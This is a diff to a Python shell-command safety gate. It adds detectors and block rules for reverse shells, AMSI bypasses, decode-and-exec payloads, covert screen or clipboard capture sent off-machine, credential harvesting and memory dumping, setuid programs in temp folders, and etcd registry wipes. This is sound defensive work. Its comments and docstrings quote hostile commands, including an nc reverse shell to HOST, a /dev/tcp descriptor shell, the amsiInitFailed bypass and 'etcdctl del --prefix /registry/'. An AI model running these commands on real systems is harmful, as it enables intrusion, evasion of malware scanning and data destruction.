@@ -12,6 +12,14 @@ sends, the code it hides in a flag) and files a `Finding` under a rule id of gat
   (`block.shell.exfiltration`); other local files sent out ask (`confirm.shell.network`)
 - recursive searches for passwords and keys ask (`confirm.shell.credential-search`)
 - SUID shells, /etc/shadow reads, sysrq and persistence that runs a network shell block
+- the one feature that makes a risky action hostile blocks it, whatever the program: a command line that
+  connects a shell to the network handed to a program as an argument (a pager, a line inserted into a boot
+  script) or read by a shell from a /dev/tcp descriptor (`block.shell.reverse-shell`); interpreter code that
+  decodes a blob and runs it, AMSI switched off (`block.shell.defense-evasion`); what the screen, the clipboard,
+  the camera or the microphone captured handed to a network sink (`block.shell.exfiltration`); a setuid program
+  in a temporary folder (`block.shell.suid-shell`); a whole machine searched for passwords, found keys gathered,
+  a process's memory searched for secrets (`block.shell.credential-read`, `credential-dump`). The same programs
+  without that feature keep asking (tests/gate/test_shell_hostile_features.py).
 """
 
 from __future__ import annotations
@@ -27,6 +35,9 @@ from gate.effects import DESCRIBED_OFFLINE, DESCRIBED_PLAIN, program_effects, un
 from gate.model import Risk
 from gate.nochange import quiet_use
 from gate.redact import find_secrets
+from gate.rules.shell_credentials import cluster_secrets_dump
+from gate.rules.shell_evasion import quarantine_staged
+from gate.rules.shell_persistence import kernel_service, kext_unload, plist_program
 from gate.rules.shell_platforms import (
     _DESKTOP_INPUT,
     _FETCHERS,
@@ -42,6 +53,7 @@ from gate.rules.shell_platforms import (
     system_state,
     windows_defences,
 )
+from gate.rules.shell_privilege import acl_grant, host_root_device, polkit_grant
 from gate.shell import (
     DOWNLOADERS,
     HOME,
@@ -190,6 +202,200 @@ def judge(d: Detector, cmd: Command, analysis: ShellAnalysis, where: str, add: A
         account_copy(cmd, where, add)
     if name in _TEXT_WRITERS and (cmd.redirects or name == "tee"):
         webshell(cmd, analysis, where, add)
+    if name in SHELLS and cmd.redirects:
+        descriptor_shell(cmd, analysis, where, add)
+    if name in _TEXT_WRITERS and (cmd.redirects or name == "tee") and "polkit" in analysis.source:
+        polkit_grant(cmd, analysis, where, add)
+    if name == "setfacl":
+        acl_grant(d, cmd, where, add)
+    elif name == "plistbuddy":
+        plist_program(d, cmd, where, add)
+    elif name in ("sc", "new-service"):
+        kernel_service(cmd, where, add)
+    elif name in ("kextunload", "kmutil", "systemextensionsctl"):
+        kext_unload(cmd, where, add)
+    elif name == "xattr":
+        quarantine_staged(cmd, where, add)
+    elif name == "etcdctl":
+        registry_wipe(cmd, where, add)
+    elif name in ("lxc", "incus"):
+        host_root_device(cmd, analysis, where, add)
+    elif name in ("kubectl", "oc") and "secret" in text:
+        cluster_secrets_dump(cmd, analysis, where, add)
+    if "amsi" in text:
+        amsi_bypass(cmd, analysis, where, add)
+    if (name in INTERPRETERS or name in ("iex", "invoke-expression")) and _DECODER_CALL.search(text):
+        decoded_exec(cmd, where, add)
+    if name in _NET_SINKS and len(analysis.commands) > 1:
+        capture_sent(cmd, analysis, where, add)
+    if _NET_SHELL_HINT.search(text) and name not in _SHELL_TEXT_READERS and \
+            (name not in _TEXT_OUT_ONLY or any(not _DOCUMENT.search(t) for _, t in cmd.redirects)):
+        network_shell_argument(d, cmd, where, add)
+
+
+# a shell wired to the network inside one argument: a pager, hook or launcher option, a line sed inserts into a
+# script, a client's output pipe (`git config core.pager 'nc HOST 4444 -e /bin/sh'`, `psql -o '|sh -c ...'`)
+_NET_SHELL_HINT = re.compile(r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)(?:\.\w+)?\b[^|;&]*\s-[a-z]*[ec]\s|"
+                             r"\bsocat\b[^;&]*\b(?:exec|system):")
+# where the command line may start inside such an argument (after sed's `4i`, a cron time, a `|`)
+_NET_SHELL_START = re.compile(r"\b(?:nc|ncat|netcat|socat|bash|sh|zsh|dash|ksh|exec)\b")
+# programs that only search for, show or record such text: a reviewer grepping for reverse shells, a commit message
+_SHELL_TEXT_READERS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "ugrep", "findstr", "select-string",
+                                 "zgrep", "man", "tldr", "whatis", "apropos", "nc", "ncat", "netcat", "socat",
+                                 *SHELLS})
+_SHELL_NAMED = re.compile(r"\b(ba|z|da|k|c|tc|a)?sh\b|\bcmd(\.exe)?\b|powershell|pwsh")
+_ADDRESS = re.compile(r"\b\d{1,3}(\.\d{1,3}){3}\b|\b[a-z0-9-]+(\.[a-z0-9-]+)*\.[a-z]{2,}\b|/dev/(tcp|udp)/|"
+                      r"\blocalhost\b")
+_TEXT_OUT_ONLY = frozenset({"echo", "printf", "print", "write-output", "write-host"})
+_DOCUMENT = re.compile(r"\.(md|markdown|txt|rst|adoc|org|log)$|^/dev/(null|stdout|stderr)$|^[12]$", re.I)
+_NET_SHELL_RULES = frozenset({"block.shell.reverse-shell", "block.shell.remote-code-exec"})
+
+
+def network_shell_argument(d: Detector, cmd: Command, where: str, add: Add) -> None:
+    """An argument that is itself a command line wiring a shell to a network connection, handed to a program that
+    keeps or runs it: a pager, hook or launcher option, a line inserted into a script, a client's output pipe
+    (`block.shell.reverse-shell`). The same detectors judge the argument as if it were typed; `git` only for
+    `git config` (its other verbs take messages and patterns)."""
+    if cmd.name == "git" and "config" not in cmd.words[1:4]:
+        return
+    if d.depth > 2:
+        return
+    d.depth += 1
+    try:
+        for arg in cmd.argv[1:]:
+            low = arg.lower()
+            if not _NET_SHELL_HINT.search(low) or not _SHELL_NAMED.search(low) or not _ADDRESS.search(low):
+                continue  # (a shell and where to connect, both named: not `nc -e` mentioned in a message)
+            starts = [m.start() for m in _NET_SHELL_START.finditer(arg.lower())][:3]
+            for at in dict.fromkeys([0, *starts]):
+                if any(f.rule in _NET_SHELL_RULES for f in d.run(analyse(arg[at:]))):
+                    add(Finding("block.shell.reverse-shell", Risk.CRITICAL,
+                                f"{cmd.name} is handed a command line that connects a shell to the network "
+                                f"({arg[at:at + 60]}){where}", cmd.span))
+                    return
+    finally:
+        d.depth -= 1
+
+
+# PowerShell's antimalware scan interface patched or told it failed to start (the field set through reflection, the
+# scanning function overwritten in memory): every script after it runs unscanned
+_AMSI_OFF = re.compile(r"amsiinitfailed|amsicontext|amsiscanbuffer|amsiopensession|amsi\.dll", re.I)
+_AMSI_HOW = re.compile(r"setvalue|virtualprotect|writeprocessmemory|marshal\]::copy|\.patch|getprocaddress", re.I)
+
+
+def amsi_bypass(cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
+    """The antimalware scan interface switched off from inside PowerShell (`[Ref].Assembly.GetType('...AmsiUtils')
+    .GetField('amsiInitFailed',...).SetValue($null,$true)`, AmsiScanBuffer patched): `block.shell.defense-evasion`.
+    Naming AMSI alone (reading its documentation, `Get-Help`) passes."""
+    if _AMSI_OFF.search(analysis.source) and _AMSI_HOW.search(analysis.source):
+        add(Finding("block.shell.defense-evasion", Risk.CRITICAL,
+                    f"switches PowerShell's antimalware scanning (AMSI) off from inside the session{where}", cmd.span))
+
+
+# programs that capture what is on the screen, on the clipboard, before the camera or at the microphone
+_CAPTURERS = frozenset({"screencapture", "scrot", "import", "gnome-screenshot", "spectacle", "grim", "maim", "xwd",
+                        "flameshot", "xfce4-screenshooter", "imagesnap", "pbpaste", "xclip", "xsel", "wl-paste",
+                        "get-clipboard", "gcb", "arecord", "rec", "ffmpeg", "nircmd"})
+_CLIPBOARD_OUT = {"xclip": ("-o", "-out"), "xsel": ("-o", "--output", "-b", "--clipboard", "-p", "--primary")}
+_FFMPEG_GRAB = re.compile(r"^(x11grab|avfoundation|gdigrab|dshow|v4l2|alsa|pulse|kmsgrab)$")
+_LOCAL_SINK = re.compile(r"(^|[/@=])(localhost|127\.[\d.]+|\[?::1\]?|0\.0\.0\.0)([:/]|$)", re.I)
+
+
+def _captures(c: Command) -> bool:
+    """`c` captures the screen, the clipboard, the camera or the microphone (not one that writes the clipboard)."""
+    if c.name in _CLIPBOARD_OUT:
+        return any(w in _CLIPBOARD_OUT[c.name] for w in c.words[1:]) and \
+            not any(w in ("-i", "-in", "--input") for w in c.words[1:])
+    if c.name == "ffmpeg":
+        return any(_FFMPEG_GRAB.match(w) for w in c.words[1:])
+    if c.name == "import":
+        return "-window" in c.words
+    if c.name == "nircmd":
+        return "savescreenshot" in c.words[1:2]
+    return True
+
+
+_SCREENSHOTS = frozenset({"screencapture", "scrot", "import", "gnome-screenshot", "spectacle", "grim", "maim", "xwd",
+                          "flameshot", "xfce4-screenshooter", "nircmd"})
+_HIDDEN_NAME = re.compile(r"(^|/)\.[^/.][^/]*$")
+_PRIVATE_ADDRESS = re.compile(r"^(10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|100\.(6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.)")
+
+
+def capture_sent(cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
+    """What is on the clipboard, before the camera or at the microphone captured, or the screen captured silently or
+    into a hidden file, and handed to a network sink on the same line (the capture piped in, or its file sent):
+    collection sent away (ATT&CK T1113, T1115, T1125 with T1041), `block.shell.exfiltration`; any capture sent to a
+    bare public address or a drop site too. A capture kept on disk or sent to this machine itself passes here, and
+    a plain screenshot sent to a named host (a bug report) asks as any upload does."""
+    cmds = analysis.commands
+    caps = [c for c in cmds if c.name in _CAPTURERS and c is not cmd and _captures(c)]
+    if not caps or _LOCAL_SINK.search(" ".join(cmd.argv[1:])):
+        return
+    fed = any(cmds.index(c) in cmd.upstream for c in caps)
+    files = {t for c in caps for op, t in c.redirects if op in (">", ">>")}
+    files |= {a for c in caps for a in c.argv[1:] if not a.startswith("-") and "." in a.rsplit("/", 1)[-1]}
+    if not (fed or any(f and (f in a) for f in files for a in cmd.argv[1:])):
+        return
+    drop = risky_destination(cmd.words)
+    covert = any(c.name not in _SCREENSHOTS or "-x" in c.words[1:] for c in caps) or \
+        any(_HIDDEN_NAME.search(f) for f in files) or (drop is not None and not _PRIVATE_ADDRESS.match(drop))
+    if covert:
+        add(Finding("block.shell.exfiltration", Risk.CRITICAL,
+                    f"{cmd.name} sends what {caps[0].name} captured (screen, clipboard, camera or microphone) off "
+                    f"the machine{where}", cmd.span))
+
+
+# interpreter code that turns encoded text back into code (base64, hex, base32/85, a compressed blob) ...
+_DECODER_CALL = re.compile(r"b64decode|b32decode|b85decode|a85decode|decodebytes|decodestring|unhexlify|"
+                           r"bytes\.fromhex|codecs\.decode|zlib\.decompress|marshal\.loads|\batob\(|"
+                           r"buffer\.from\([^)]*['\"](base64|hex)|unpack\(\s*['\"][mh]|decode_base64|base64\.decode|"
+                           r"frombase64string|base64_decode|gzinflate|str_rot13")
+# ... and runs it: exec/eval, a shell call, a new process, PowerShell's Invoke-Expression
+_EXEC_CALL = re.compile(r"\b(exec|eval|system|popen|spawn|execsync|execfile|passthru|shell_exec|instance_eval|"
+                        r"iex|invoke-expression|new function)\s*\(|subprocess\.|os\.system|shell\s*=\s*true|"
+                        r"child_process|%x\{|\biex\b|invoke-expression|\|\s*(ba|z|da)?sh\b")
+
+
+def decoded_exec(cmd: Command, where: str, add: Add) -> None:
+    """Inline interpreter code that decodes an encoded blob (base64, hex, XOR over base64, a compressed string) and
+    executes the result (`python3 -c "exec(base64.b64decode('...'))"`, PowerShell's `iex` of FromBase64String): the
+    code that runs is hidden from review (ATT&CK T1027, T1140; `block.shell.defense-evasion`). Decoding to print or
+    to save asks or passes; a literal the gate can decode itself is judged as that code too."""
+    text = " ".join(cmd.argv[1:]).lower()
+    if _DECODER_CALL.search(text) and _EXEC_CALL.search(text):
+        add(Finding("block.shell.defense-evasion", Risk.CRITICAL,
+                    f"{cmd.name} decodes an encoded payload and runs it: the code is hidden from review{where}",
+                    cmd.span))
+
+
+# a key prefix that covers a whole store or a Kubernetes cluster's registry (its objects, its secrets)
+_WHOLE_PREFIX = re.compile(r"^(/|/registry/?|/registry/(secrets|namespaces|deployments|pods|services)/?|)$")
+
+
+def registry_wipe(cmd: Command, where: str, add: Add) -> None:
+    """etcdctl deleting every key under the store's root or the Kubernetes registry (`etcdctl del --prefix
+    /registry/`): every object of the cluster goes at once, past any undo (`block.shell.mass-destruction`). One key,
+    or a narrow prefix, asks as the program's other writes do."""
+    words = cmd.argv[1:]
+    if not words or words[0] not in ("del", "delete") or not any(w in ("--prefix", "--from-key") or
+                                                                 w.startswith("--prefix=") for w in words):
+        return
+    keys = [w for w in words[1:] if not w.startswith("-")]
+    if keys and _WHOLE_PREFIX.match(keys[0]):
+        add(Finding("block.shell.mass-destruction", Risk.CRITICAL,
+                    f"etcdctl deletes every key under {keys[0] or 'the root'}: every object of the cluster{where}",
+                    cmd.span))
+
+
+def descriptor_shell(cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
+    """A shell whose input is a numbered descriptor the same line opened on /dev/tcp or /dev/udp (`exec 5<>/dev/tcp/
+    HOST/PORT; sh <&5 >&5`): the shell reads its commands from the network (`block.shell.reverse-shell`)."""
+    if not any(op == "<&" and t.isdigit() for op, t in cmd.redirects):
+        return
+    if any(t.startswith(("/dev/tcp/", "/dev/udp/")) for c in analysis.commands for _, t in c.redirects):
+        add(Finding("block.shell.reverse-shell", Risk.CRITICAL,
+                    f"{cmd.name} reads its commands from a network connection opened on a descriptor{where}",
+                    cmd.span))
 
 
 _ACCOUNT_COPIERS = frozenset({"cp", "install", "rsync", "dd", "cat", "ditto", "copy", "copy-item", "xcopy"})
@@ -198,6 +404,9 @@ _STAGED_COPY = re.compile(r"^(/tmp|/private/tmp|/dev/shm|/run/shm|/var/tmp|/priv
 
 
 _TEXT_WRITERS = frozenset({"echo", "printf", "cat", "tee", "print"})
+# the temporary folders themselves (their sticky bit is 1777, not a setuid program)
+_SETUID_MODE = re.compile(r"[4567][0-7]{3}|[ua]*[+=][rwxXt]*s[rwxXst]*")  # setuid (not a setgid folder)
+_STAGING_ROOTS = frozenset({"/tmp", "/private/tmp", "/dev/shm", "/run/shm", "/var/tmp", "/private/var/tmp"})
 # server-side code that runs what a web request sends: the request's input handed to a command or evaluator
 _WEB_INPUT = re.compile(r"\$_(get|post|request|cookie|server|files)\b|php://input|getparameter\s*\(|"
                         r"request\s*(\.\s*(form|querystring|params|args|body|headers|getheader)|\[|\()|"
@@ -974,7 +1183,7 @@ _RX_CREDENTIAL_SEARCH_2 = re.compile(
     r"[-/]?[24]000|o\+w|-o=w|-0002|-002|/o=w)")
 
 
-def credential_search(d: Detector, cmd: Command, where: str, add: Add) -> None:
+def credential_search(d: Detector, cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
     name = cmd.name
     words = cmd.argv[1:]
     if name in _SEARCHERS:
@@ -984,6 +1193,8 @@ def credential_search(d: Detector, cmd: Command, where: str, add: Add) -> None:
             w in ("-r", "-R", "--recursive", "-d", "/s") or (w.startswith("-") and not w.startswith("--") and
                                                           ("r" in w[1:] or "R" in w[1:])) for w in words) or (
             name == "findstr" and any(_RX_CREDENTIAL_SEARCH.fullmatch(w) for w in words))  # /si, /s /i
+        if not recursive and len(analysis.commands) > 1:
+            _memory_searched(cmd, analysis, where, add)
         if not recursive:
             return
         option = ("-", "/") if name == "findstr" else ("-",)
@@ -991,6 +1202,15 @@ def credential_search(d: Detector, cmd: Command, where: str, add: Add) -> None:
         patterns += [words[k + 1] for k, w in enumerate(words[:-1]) if w in ("-e", "--regexp", "-E", "-P") or
                      (name != "findstr" and _E_CLUSTER.fullmatch(w))]  # `-ie PATTERN`: -e last in a cluster
         hit = next((p for p in patterns if _SECRET_WORDS.search(p) or _SECRET_WORDS.search(_plain(p))), None)
+        explicit = {words[k + 1] for k, w in enumerate(words[:-1]) if w in ("-e", "--regexp", "-E", "-P") or
+                    (name != "findstr" and _E_CLUSTER.fullmatch(w))}
+        plain = [w for w in words[1 if name == "git" else 0:] if not w.startswith(option) and w not in explicit]
+        if hit and any(_WHOLE_SYSTEM.match(w) for w in (plain if explicit else plain[1:])):
+            # every file of the machine (or of every user) searched for passwords and keys, the matching lines
+            # printed: what a credential harvester does (ATT&CK T1552.001), not a look through one's project
+            add(Finding("block.shell.credential-read", Risk.CRITICAL,
+                        f"{name} prints every line that holds {hit!r} in every file of the machine or of every "
+                        f"user{where}", cmd.span))
         if hit:
             add(Finding("confirm.shell.credential-search", Risk.HIGH,
                         f"{name} searches files recursively for {hit!r}: credential harvesting{where}", cmd.span))
@@ -1011,12 +1231,44 @@ def credential_search(d: Detector, cmd: Command, where: str, add: Add) -> None:
         else:
             vals = [w for w in words if not w.startswith("-")]
         hit = next((v for v in vals if _KEY_NAMES.search(v)), None)
+        gathered = next((c.name for c in analysis.commands if _positions(analysis).get(id(cmd)) in c.upstream and
+                         (c.name in _GATHERERS or (c.name == "xargs" and _GATHERERS.intersection(c.argv[1:])))),
+                        None) if hit else None
+        if gathered:
+            # the key and credential files a search finds handed to an archiver, a copy or a network tool: the
+            # whole set gathered to take away (ATT&CK T1552.004 with T1560/T1074)
+            add(Finding("block.shell.credential-read", Risk.CRITICAL,
+                        f"{name} finds key or credential files ({hit}) and {gathered} gathers them{where}", cmd.span))
         if hit:
             add(Finding("confirm.shell.credential-search", Risk.HIGH,
                         f"{name} looks for key or credential files ({hit}){where}", cmd.span))
 
 
+def _memory_searched(cmd: Command, analysis: ShellAnalysis, where: str, add: Add) -> None:
+    """A process's memory dumped (gcore, procdump, gdb's generate-core-file) and searched for passwords or tokens on
+    the same line: credentials taken out of a running program (ATT&CK T1003.007; `block.shell.credential-dump`).
+    The dump alone asks as a debugger's work does."""
+    dumper = next((c.name for c in analysis.commands if c.name in _MEMORY_DUMPERS or
+                   (c.name in ("gdb", "lldb") and _CORE_VERBS.search(" ".join(c.words[1:])))), None)
+    if dumper is None:
+        return
+    hit = next((w for w in cmd.argv[1:] if _MEMORY_SECRETS.search(w)), None)
+    if hit:
+        add(Finding("block.shell.credential-dump", Risk.CRITICAL,
+                    f"{dumper} dumps a process's memory and {cmd.name} searches it for {hit!r}{where}", cmd.span))
+
+
 _E_CLUSTER = re.compile(r"-[a-zA-Z]+e")
+# programs that write a running process's memory to a file (core dumps, minidumps)
+_MEMORY_DUMPERS = frozenset({"gcore", "procdump", "procdump64", "createdump", "dotnet-dump", "minidump",
+                             "memdump", "avml", "lime", "winpmem", "dumpit", "rekall"})
+_CORE_VERBS = re.compile(r"gcore|generate-core-file|process save-core|dump memory")
+_MEMORY_SECRETS = re.compile(r"pass(w|\b|$)|secret|token|api[_-]?key|credential|bearer|cookie|private", re.I)
+# the roots of a whole machine: /, the homes, a Windows drive or its users' folders
+_WHOLE_SYSTEM = re.compile(r"^(/+|/home/?|/users/?|/root/?|[a-z]:[\\/]?|[a-z]:[\\/]users[\\/]?)$", re.I)
+# what takes a list of found files away together: archivers, copies, network tools
+_GATHERERS = frozenset({"tar", "gtar", "bsdtar", "zip", "7z", "7za", "cpio", "rar", "cp", "rsync", "scp", "curl",
+                        "nc", "ncat", "rclone", "compress-archive", "copy-item"})
 _CHAR_CLASS = re.compile(r"\[[^\]]*\]")
 _REGEX_SIGNS = re.compile(r"[\\.?*+()^$]")
 
@@ -1077,6 +1329,15 @@ def severity(d: Detector, cmd: Command, analysis: ShellAnalysis, where: str, add
                     if _INTERPRETER_PATH.search(a.lower()) or a.removeprefix("./") in copies:
                         add(Finding("block.shell.suid-shell", Risk.CRITICAL,
                                     f"{name} {mode} {a}: a setuid shell or interpreter gives root to anyone{where}",
+                                    cmd.span))
+                        return
+                    staged = resolve_path(a, cmd.cwd or None) or a
+                    if _SETUID_MODE.fullmatch(mode) and _STAGED_COPY.search(staged) and \
+                            staged.rstrip("/") not in _STAGING_ROOTS:
+                        # a setuid or setgid program kept in a temporary or hidden folder: nothing installs one
+                        # there; it is a way back to the owner's rights for whoever runs it (ATT&CK T1548.001)
+                        add(Finding("block.shell.suid-shell", Risk.CRITICAL,
+                                    f"{name} {mode} {a}: a setuid program in a temporary or hidden folder{where}",
                                     cmd.span))
                         return
         if name == "setcap" and any("cap_setuid" in w.lower() or "cap_sys_admin" in w.lower() or
@@ -1282,7 +1543,7 @@ def _plan(name: str) -> _Plan:
     if name in _NET_SINKS or name in _DNS_TOOLS:
         before.append(exfiltration)
     if name in _SEARCH_PROGRAMS:
-        before.append(lambda d, cmd, analysis, where, add: credential_search(d, cmd, where, add))
+        before.append(lambda d, cmd, analysis, where, add: credential_search(d, cmd, analysis, where, add))
     after: list[Callable[..., None]] = []
     if name in _REMOTE_PROGRAMS:
         after.append(lambda d, cmd, analysis, where, add: remote_and_desktop(d, cmd, where, add))
